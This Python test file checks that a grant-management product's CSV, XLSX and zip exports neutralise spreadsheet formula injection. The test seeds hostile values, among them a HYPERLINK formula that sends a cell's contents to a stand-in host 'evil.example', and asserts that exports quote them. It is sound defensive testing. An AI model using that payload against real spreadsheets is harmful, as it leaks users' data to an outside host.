"""Formula injection (issue 18, point 7): every CSV and XLSX the product makes goes through one writer
(reports/xlsx.py) that neutralises text a spreadsheet would run — the payment batch's summary, the
ex-post publication extract, the FSTP report, the KPI files — checked here with a hostile organisation
name, account holder and call code on a programme driven to a paid grant."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from tests.workflows.builders import FINANCE, Programme, as_user, programme  # noqa: F401
from tests.workflows.test_payments_bank import approved, camt054, released_batch
from workflows.db.models import Call, Organisation
from workflows.services.finance_reports import fstp_report, publication_extract
from workflows.services.payments import import_status
from workflows.services.reporting import kpi_report

LEGAL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Nova")'
HOLDER = "-2+3 Nova Cluster"            # SEPA characters: it reaches the payment summary as it is
CALL_CODE = "@SUM(1+1)"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")


@pytest.fixture
def exports(programme: Programme, tmp_path: Path) -> list[Path]:  # noqa: F811
    """Every export of the paid programme, with the hostile names in the database."""
    with programme.app.uow() as uow:
        uow.session.execute(update(Organisation).where(Organisation.id == programme.visitor_org_id).values(
            legal_name=LEGAL_NAME, account_holder=HOLDER))
        uow.commit()
    prog = approved(programme)
    result = released_batch(prog)
    import_status(prog.app, camt054(result["batch"], prog.exchange_ref, Decimal("1100.00")), "NTF-1.xml",
                  as_user(prog.app, FINANCE))
    with prog.app.uow() as uow:
        uow.session.execute(update(Call).values(code=CALL_CODE))
        uow.commit()
    files = [Path(p) for p in result["files"] if p.endswith(".csv")]  # the pain.001 XML is no spreadsheet
    files += [Path(p) for p in publication_extract(prog.app, 2027, tmp_path / "publication")["files"]]
    files += [Path(p) for p in fstp_report(prog.app, CALL_CODE, tmp_path / "fstp")["files"]]
    kpi_report(prog.app, "2027-02", out_dir=tmp_path / "kpi", email=False)
    files += sorted((tmp_path / "kpi").rglob("*.csv")) + sorted((tmp_path / "kpi").rglob("*.xlsx"))
    files += sorted((tmp_path / "kpi").rglob("*.zip"))
    return files


def cells(path: Path) -> list[Any]:
    """Every cell of a CSV, an XLSX (values as stored, formulas included) or a zip of CSV files."""
    if path.suffix == ".csv":
        return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as archive:
            return [c for name in archive.namelist() for row in csv.reader(io.StringIO(
                archive.read(name).decode("utf-8"))) for c in row]
    from openpyxl import load_workbook

    book = load_workbook(path)  # not data_only: a formula would come back as its "=…" text
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_no_export_holds_a_cell_a_spreadsheet_would_run(exports: list[Path]) -> None:
    kinds = {p.suffix for p in exports}
    assert kinds == {".csv", ".xlsx", ".zip"} and len(exports) >= 8
    for path in exports:
        for value in cells(path):
            if isinstance(value, str):
                assert not value.startswith(FORMULA_START) or NUMBER.match(value), (path.name, value)


def test_the_hostile_names_are_kept_readably_behind_a_quote(exports: list[Path]) -> None:
    by_name = {p.name: p for p in exports}
    summary = next(p for p in exports if p.suffix == ".csv" and p.stem.startswith("CXP-"))
    assert "'" + HOLDER in cells(summary)
    assert "'" + LEGAL_NAME in cells(by_name["publication-2027.csv"])
    assert "'" + LEGAL_NAME in cells(by_name["publication-2027.xlsx"])
    assert "'" + CALL_CODE in cells(by_name["kpi-2027-02-programme.xlsx"])
    assert any(isinstance(v, str) and v.startswith("'" + CALL_CODE) for p in exports if "kpi" in str(p)
               for v in cells(p))


def test_the_xlsx_has_no_formula_and_its_amounts_stay_numbers(exports: list[Path]) -> None:
    from openpyxl import load_workbook

    book = load_workbook(next(p for p in exports if p.name == "publication-2027.xlsx"))
    sheet = book.worksheets[0]
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    assert [c.value for c in sheet[4]][:3] == ["'" + LEGAL_NAME, "BE", 1100.0]
